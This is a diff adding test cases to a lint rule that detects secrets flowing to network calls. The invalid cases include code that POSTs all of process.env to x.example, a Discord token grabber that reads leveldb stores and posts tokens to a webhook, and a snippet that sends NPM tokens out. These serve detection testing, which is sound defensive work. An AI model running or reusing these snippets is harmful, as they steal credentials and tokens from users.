@@ -41,6 +41,26 @@ ruleTester(rule, {
   ],
   invalid: [
     {
+      name: 'destructured process.env copied with Object.assign',
+      code: 'const p = process; const { env: e } = p;\nconst snapshot = {}; Object.assign(snapshot, e);\nrequire("node:http").request("http://x.example/c", { method: "POST" }).end(JSON.stringify(snapshot));',
+      errors: [{ messageId: 'flow', line: 3, column: 1 }],
+    },
+    {
+      name: 'token stores read in a loop and sent to a webhook through a helper',
+      code: [
+        'const fs = require("fs"), path = require("path"), https = require("https");',
+        'const paths = { Discord: process.env.APPDATA + "/discord", Canary: process.env.APPDATA + "/discordcanary" };',
+        'for (const [name, p] of Object.entries(paths)) {',
+        '  const dir = p + "/Local Storage/leveldb";',
+        '  for (const file of fs.readdirSync(dir)) send(name, fs.readFileSync(path.join(dir, file), "utf8").match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g));',
+        '}',
+        'function send(name, t) {',
+        '  https.request({ hostname: "discord.com", path: "/api/webhooks/1/x", method: "POST" }).end(JSON.stringify({ content: name + t.join() }));',
+        '}',
+      ].join('\n'),
+      errors: [{ messageId: 'flow', line: 8, column: 3, message: 'Discord webhook' }],
+    },
+    {
       code: 'fetch("https://api.example.com/c", { method: "POST", body: JSON.stringify({ token: process.env.NPM_TOKEN, npmToken: process.env.NODE_AUTH_TOKEN }) });',
       errors: [{ messageId: 'flow', line: 1, column: 1, message: 'several secrets' }],
     },
